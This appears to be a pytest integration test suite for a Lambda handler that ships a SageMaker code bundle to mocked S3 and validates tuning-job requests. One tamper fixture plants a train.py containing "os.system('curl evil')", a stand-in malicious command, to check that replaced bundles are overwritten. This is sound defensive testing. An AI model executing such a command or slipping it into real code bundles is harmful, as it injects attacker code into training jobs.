"""launch_hpo's handler on moto S3: the code bundle lands once; the request passes SageMaker's model."""

from __future__ import annotations

import io
import random
import tarfile
from collections.abc import Iterator
from typing import Any

import pytest
from lambda_harness import FakeLambdaContext, load_event, load_lambda_module, stubbed, validate_request
from moto import mock_aws

pytestmark = pytest.mark.integration

app = load_lambda_module("launch_hpo", "app")
import boto3  # noqa: E402
from events_fixture import ROOT  # noqa: E402

from stepsage_lambda import clients, naming  # noqa: E402

BUCKET = "stepsage-artifacts-123456789012"
LONGEST = "x" * naming.EXECUTION_NAME_MAX
TUNING_ARN = "arn:aws:sagemaker:us-east-1:123456789012:hyper-parameter-tuning-job/x"


@pytest.fixture
def s3(monkeypatch: pytest.MonkeyPatch) -> Iterator[Any]:
    env = {
        "ARTIFACTS_BUCKET": BUCKET,
        "TRAINING_IMAGE_URI": "763104351884.dkr.ecr.us-east-1.amazonaws.com/pytorch-training:2.5-gpu-py311",
        "SAGEMAKER_CODE_DIR": str(ROOT),
        "AWS_REGION": "us-east-1",
        "STACK_NAME": "stepsage-test",
    }
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    monkeypatch.delenv("AWS_ENDPOINT_URL", raising=False)
    with mock_aws():
        clients.client.cache_clear()
        client = boto3.client("s3", region_name="us-east-1")
        client.create_bucket(Bucket=BUCKET)
        yield client
    clients.client.cache_clear()


def _tuning_job(request: dict[str, Any]) -> dict[str, Any]:
    return {"HyperParameterTuningJobName": naming.tuning_job_name(LONGEST, 99), **request}


def test_handler_ships_the_bundle_once_and_returns_a_valid_request(s3: Any) -> None:
    first = app.lambda_handler(load_event("launch_hpo"), FakeLambdaContext())
    second = app.lambda_handler(load_event("launch_hpo"), FakeLambdaContext())
    assert first == second
    code_uri = first["code_uri"]
    assert code_uri.startswith(f"s3://{BUCKET}/code/sourcedir-")
    listed = s3.list_objects_v2(Bucket=BUCKET, Prefix="code/")["Contents"]
    assert [o["Key"] for o in listed] == [code_uri.removeprefix(f"s3://{BUCKET}/")]
    body = s3.get_object(Bucket=BUCKET, Key=listed[0]["Key"])["Body"].read()
    with tarfile.open(fileobj=io.BytesIO(body), mode="r:gz") as archive:
        names = archive.getnames()
    assert "metrics.py" in names and "inference_code/inference.py" in names
    assert not any(n.startswith("training_code/") for n in names)

    request = first["request"]
    static = request["TrainingJobDefinition"]["StaticHyperParameters"]
    assert static["sagemaker_submit_directory"] == code_uri
    validate_request("CreateHyperParameterTuningJob", _tuning_job(request))


def _tampered_bodies(original: bytes) -> list[tuple[str, bytes]]:
    """Other bytes under the bundle's key, by class: empty, truncated, extended, bit flips, other archives."""
    rng = random.Random(9)
    flipped = []
    for position in [*sorted(rng.sample(range(len(original)), 12)), 0, len(original) - 1]:
        changed = bytearray(original)
        changed[position] ^= 1 << rng.randrange(8)
        flipped.append((f"bit flip at {position}", bytes(changed)))
    other = io.BytesIO()
    with tarfile.open(fileobj=other, mode="w:gz") as archive:
        info = tarfile.TarInfo("train.py")
        payload = b"import os; os.system('curl evil')\n"
        info.size = len(payload)
        archive.addfile(info, io.BytesIO(payload))
    return [
        ("empty", b""),
        ("truncated", original[: len(original) // 2]),
        ("one byte short", original[:-1]),
        ("extended", original + b"\0"),
        ("another archive", other.getvalue()),
        *flipped,
    ]


def test_a_bundle_key_holding_other_bytes_is_rewritten_before_use(s3: Any) -> None:
    """The key's hash names the bytes, but the object is checked, not trusted: whatever replaced it (a job
    with too much access, a broken upload) is overwritten with the real bundle before a job is sent to it."""
    s3.put_bucket_versioning(Bucket=BUCKET, VersioningConfiguration={"Status": "Enabled"})
    code_uri = app.lambda_handler(load_event("launch_hpo"), FakeLambdaContext())["code_uri"]
    key = code_uri.removeprefix(f"s3://{BUCKET}/")
    original = s3.get_object(Bucket=BUCKET, Key=key)["Body"].read()
    cases = _tampered_bodies(original)
    for label, body in cases:
        assert body != original, label
        s3.put_object(Bucket=BUCKET, Key=key, Body=body)
        again = app.lambda_handler(load_event("launch_hpo"), FakeLambdaContext())["code_uri"]
        assert again == code_uri, label
        assert s3.get_object(Bucket=BUCKET, Key=key)["Body"].read() == original, label
    versions = s3.list_object_versions(Bucket=BUCKET, Prefix=key)["Versions"]
    # One upload, then per case the tampering and the repair; an intact bundle is never written again.
    app.lambda_handler(load_event("launch_hpo"), FakeLambdaContext())
    assert len(s3.list_object_versions(Bucket=BUCKET, Prefix=key)["Versions"]) == len(versions)
    assert len(versions) == 1 + 2 * len(cases)


@pytest.mark.parametrize("strategy", ["Bayesian", "Random", "Hyperband", "Grid"])
def test_every_strategy_passes_the_service_model_and_the_stubber(
    s3: Any, monkeypatch: pytest.MonkeyPatch, strategy: str
) -> None:
    monkeypatch.setenv("TUNING_STRATEGY", strategy)
    monkeypatch.setenv("USE_SPOT_TRAINING", "true")
    request = app.lambda_handler(load_event("launch_hpo"), FakeLambdaContext())["request"]
    params = _tuning_job(request)
    validate_request("CreateHyperParameterTuningJob", params)
    sagemaker, stubber = stubbed("sagemaker")
    stubber.add_response(
        "create_hyper_parameter_tuning_job",
        {"HyperParameterTuningJobArn": TUNING_ARN},
        expected_params=params,
    )
    sagemaker.create_hyper_parameter_tuning_job(**params)
    stubber.assert_no_pending_responses()


def test_a_request_aws_would_reject_fails_here_too(s3: Any) -> None:
    request = app.lambda_handler(load_event("launch_hpo"), FakeLambdaContext())["request"]
    from stepsage.local.sagemaker.exceptions import ValidationError

    with pytest.raises(ValidationError):
        validate_request(
            "CreateHyperParameterTuningJob", {**_tuning_job(request), "HyperParameterTuningJobName": "y" * 33}
        )
    request["HyperParameterTuningJobConfig"]["TrainingJobEarlyStoppingType"] = "Auto"
    request["HyperParameterTuningJobConfig"]["Strategy"] = "Hyperband"
    with pytest.raises(ValidationError, match="Hyperband"):
        validate_request("CreateHyperParameterTuningJob", _tuning_job(request))
